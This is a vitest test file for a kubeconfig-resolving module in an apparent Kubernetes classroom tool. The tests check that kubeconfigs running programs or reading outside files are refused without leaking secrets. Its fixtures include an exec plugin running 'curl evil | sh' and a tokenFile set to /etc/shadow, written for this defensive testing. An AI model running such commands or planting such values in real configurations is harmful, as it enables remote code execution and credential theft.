import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, test } from 'vitest';
import { globToRegExp, naturalCompare, resolveAttendees } from '../../../src/classroom/targets.ts';

const dir = mkdtempSync(join(tmpdir(), 'hj-targets-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

const TOKEN = 'eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJzeXN0ZW0ifQ.c2lnbmF0dXJlLXNpZ25hdHVyZQ';

/** A kubeconfig with one cluster and the given users and contexts. */
function kubeconfig(name: string, options: { contexts: Array<{ name: string; user: string; namespace?: string }>; users: Array<{ name: string; user: Record<string, unknown> }>; current?: string }, folder = dir): string {
  const file = join(folder, name);
  const doc = {
    apiVersion: 'v1',
    kind: 'Config',
    clusters: [{ name: 'c', cluster: { server: 'https://127.0.0.1:6443' } }],
    users: options.users,
    contexts: options.contexts.map((c) => ({ name: c.name, context: { cluster: 'c', user: c.user, ...(c.namespace ? { namespace: c.namespace } : {}) } })),
    ...(options.current ? { 'current-context': options.current } : {}),
  };
  writeFileSync(file, JSON.stringify(doc));
  return file;
}

const tokenUser = { name: 'u', user: { token: TOKEN } };
const base = { contexts: [] as string[], allowExec: false, cwd: dir, env: { HOME: dir } };

describe('resolveAttendees', () => {
  test('a file is one attendee named after the file, using its current context', async () => {
    kubeconfig('alice.kubeconfig', { contexts: [{ name: 'kind-hero', user: 'u' }], users: [tokenUser], current: 'kind-hero' });
    const [alice, ...rest] = await resolveAttendees({ ...base, targets: ['alice.kubeconfig'] });
    expect(rest).toEqual([]);
    expect(alice).toMatchObject({ name: 'alice', context: 'kind-hero', source: 'alice.kubeconfig' });
    expect(alice!.selection).toMatchObject({ kubeconfig: join(dir, 'alice.kubeconfig'), context: 'kind-hero' });
    expect(alice!.refused).toBeUndefined();
  });

  test('NAME=FILE labels an attendee', async () => {
    kubeconfig('k1.yaml', { contexts: [{ name: 'x', user: 'u' }], users: [tokenUser], current: 'x' });
    const attendees = await resolveAttendees({ ...base, targets: ['Bob=k1.yaml'] });
    expect(attendees.map((a) => a.name)).toEqual(['Bob']);
  });

  test('a folder gives one attendee per kubeconfig, in natural order, skipping other files', async () => {
    const folder = join(dir, 'class');
    mkdirSync(folder);
    for (const n of [10, 2, 1]) kubeconfig(`attendee-${n}.yaml`, { contexts: [{ name: `ctx-${n}`, user: 'u' }], users: [tokenUser], current: `ctx-${n}` }, folder);
    writeFileSync(join(folder, 'README.md'), '# not a kubeconfig\n');
    writeFileSync(join(folder, 'notes.yaml'), 'just: a map\n');
    writeFileSync(join(folder, '.hidden.yaml'), 'x: 1\n');
    const attendees = await resolveAttendees({ ...base, targets: ['class'] });
    expect(attendees.map((a) => a.name)).toEqual(['attendee-1', 'attendee-2', 'attendee-10']);
  });

  test('context patterns pick several contexts of one kubeconfig, each an attendee named by its context', async () => {
    kubeconfig('many.yaml', {
      contexts: ['attendee-1', 'attendee-2', 'attendee-3', 'admin'].map((name) => ({ name, user: 'u' })),
      users: [tokenUser],
      current: 'admin',
    });
    const attendees = await resolveAttendees({ ...base, targets: ['many.yaml'], contexts: ['attendee-*'] });
    expect(attendees.map((a) => [a.name, a.context])).toEqual([
      ['attendee-1', 'attendee-1'],
      ['attendee-2', 'attendee-2'],
      ['attendee-3', 'attendee-3'],
    ]);
    const two = await resolveAttendees({ ...base, targets: ['many.yaml'], contexts: ['admin', 'attendee-2'] });
    expect(two.map((a) => a.name)).toEqual(['attendee-2', 'admin']);
  });

  test('without targets, contexts come from $KUBECONFIG (a list, merged)', async () => {
    const a = kubeconfig('list-a.yaml', { contexts: [{ name: 'one', user: 'u' }], users: [tokenUser], current: 'one' });
    const b = kubeconfig('list-b.yaml', { contexts: [{ name: 'two', user: 'u' }], users: [tokenUser] });
    const attendees = await resolveAttendees({ ...base, targets: [], contexts: ['*'], env: { HOME: dir, KUBECONFIG: `${a}:${b}` } });
    expect(attendees.map((x) => x.name)).toEqual(['one', 'two']);
    expect(attendees[1]!.selection).toMatchObject({ context: 'two', env: { KUBECONFIG: `${a}:${b}` } });
    expect(attendees[1]!.source).toBe('$KUBECONFIG');
  });

  test('the same context name in two files gets told apart', async () => {
    kubeconfig('dup-a.yaml', { contexts: [{ name: 'kind-hero', user: 'u' }], users: [tokenUser], current: 'kind-hero' });
    kubeconfig('dup-b.yaml', { contexts: [{ name: 'kind-hero', user: 'u' }], users: [tokenUser], current: 'kind-hero' });
    const attendees = await resolveAttendees({ ...base, targets: ['dup-a.yaml', 'dup-b.yaml'], contexts: ['kind-hero'] });
    expect(attendees.map((a) => a.name)).toEqual(['dup-a/kind-hero', 'dup-b/kind-hero']);
  });

  test.each([
    ['missing file', ['nope.yaml'], [], /nope\.yaml: no such file or folder/],
    ['no matching context', ['alice.kubeconfig'], ['zzz-*'], /no context matches "zzz-\*"/],
  ])('refuses %s', async (_what, targets, contexts, message) => {
    await expect(resolveAttendees({ ...base, targets, contexts })).rejects.toThrow(message);
  });

  test('a kubeconfig with several contexts and no current one asks for --context', async () => {
    kubeconfig('nocurrent.yaml', { contexts: [{ name: 'a', user: 'u' }, { name: 'b', user: 'u' }], users: [tokenUser] });
    await expect(resolveAttendees({ ...base, targets: ['nocurrent.yaml'] })).rejects.toThrow(/names no current context \(it has a, b\): pass --context/);
  });

  test('invalid YAML is reported by its first line only (the parser quotes the file, which may hold a token)', async () => {
    writeFileSync(join(dir, 'broken.yaml'), `users:\n  - name: u\n    user:\n      token: ${TOKEN}\n   bad: [\n`);
    const error = await resolveAttendees({ ...base, targets: ['broken.yaml'] }).catch((e: Error) => e);
    expect(String(error)).toMatch(/broken\.yaml is not valid YAML/);
    expect(String(error)).not.toContain(TOKEN);
  });
});

describe('untrusted kubeconfigs', () => {
  test.each([
    ['an exec plugin', { exec: { apiVersion: 'client.authentication.k8s.io/v1', command: '/usr/local/bin/aws', args: ['eks', 'get-token', '--cluster', 'x'] } }, /user "sso" runs aws to get credentials \(exec plugin\).*--allow-exec/],
    ['an auth-provider', { 'auth-provider': { name: 'oidc', config: { 'id-token': TOKEN, 'refresh-token': 'r3fr3sh-T0ken-V4lue-9999' } } }, /user "sso" uses the "oidc" auth-provider plugin.*--allow-exec/],
    ['a token file outside its folder', { tokenFile: '/etc/shadow' }, /user "sso" names a token file outside the kubeconfig's folder \(tokenFile: \/etc\/shadow\) and sends it to the cluster as a password/],
  ])('%s is refused, saying which file and user, and never what the secrets are', async (_what, user, message) => {
    kubeconfig('untrusted.yaml', { contexts: [{ name: 'ctx', user: 'sso' }], users: [{ name: 'sso', user }], current: 'ctx' });
    const [attendee] = await resolveAttendees({ ...base, targets: ['untrusted.yaml'] });
    expect(attendee!.refused).toMatch(message);
    expect(attendee!.refused).toContain('untrusted.yaml');
    expect(attendee!.refused).not.toContain(TOKEN);
    expect(attendee!.refused).not.toContain('get-token');
    expect(attendee!.refused).not.toContain('r3fr3sh');
    const [allowed] = await resolveAttendees({ ...base, targets: ['untrusted.yaml'], allowExec: true });
    expect(allowed!.refused).toBeUndefined();
  });

  test('a token file next to the kubeconfig is fine', async () => {
    writeFileSync(join(dir, 'token'), 'abc');
    kubeconfig('tokenfile.yaml', { contexts: [{ name: 'ctx', user: 't' }], users: [{ name: 't', user: { tokenFile: 'token' } }], current: 'ctx' });
    const [attendee] = await resolveAttendees({ ...base, targets: ['tokenfile.yaml'] });
    expect(attendee!.refused).toBeUndefined();
  });

  test('only the attendee whose kubeconfig runs a program is refused', async () => {
    const folder = join(dir, 'mixed');
    mkdirSync(folder);
    kubeconfig('good.yaml', { contexts: [{ name: 'g', user: 'u' }], users: [tokenUser], current: 'g' }, folder);
    kubeconfig('evil.yaml', { contexts: [{ name: 'e', user: 'x' }], users: [{ name: 'x', user: { exec: { command: 'sh', args: ['-c', 'curl evil | sh'] } } }], current: 'e' }, folder);
    const attendees = await resolveAttendees({ ...base, targets: ['mixed'] });
    expect(attendees.map((a) => [a.name, Boolean(a.refused)])).toEqual([
      ['evil', true],
      ['good', false],
    ]);
    expect(attendees[0]!.refused).not.toContain('curl');
  });
});

describe('helpers', () => {
  test.each([
    ['attendee-*', 'attendee-12', true],
    ['attendee-*', 'admin', false],
    ['kind-?', 'kind-a', true],
    ['a.b', 'axb', false],
    ['exact', 'exact', true],
  ])('%s matches %s: %s', (pattern, name, expected) => {
    expect(globToRegExp(pattern).test(name)).toBe(expected);
  });

  test('natural order', () => {
    expect(['a-10', 'a-2', 'A-1'].sort(naturalCompare)).toEqual(['A-1', 'a-2', 'a-10']);
  });
});
